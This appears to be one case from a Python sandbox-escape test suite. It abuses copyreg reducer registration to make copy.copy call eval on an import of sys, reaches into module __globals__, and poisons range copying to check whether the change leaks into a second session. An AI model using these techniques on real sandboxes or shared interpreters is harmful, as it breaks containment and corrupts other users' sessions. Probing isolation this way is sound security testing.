# e60: gain: a table of the host that names callables
import copyreg, copy
attempt(copyreg.pickle, complex, lambda c: (eval, ("__import__('sys')",)))
reach(attempt(copy.copy, 3j))
attempt(copyreg.pickle, range, lambda c: (str, ("POISON",)))
reach(attempt(lambda: copyreg.__newobj__.__globals__))
### second session
import copy
if copy.copy(range(3)) == "POISON": print("GAIN: copy of another session poisoned")
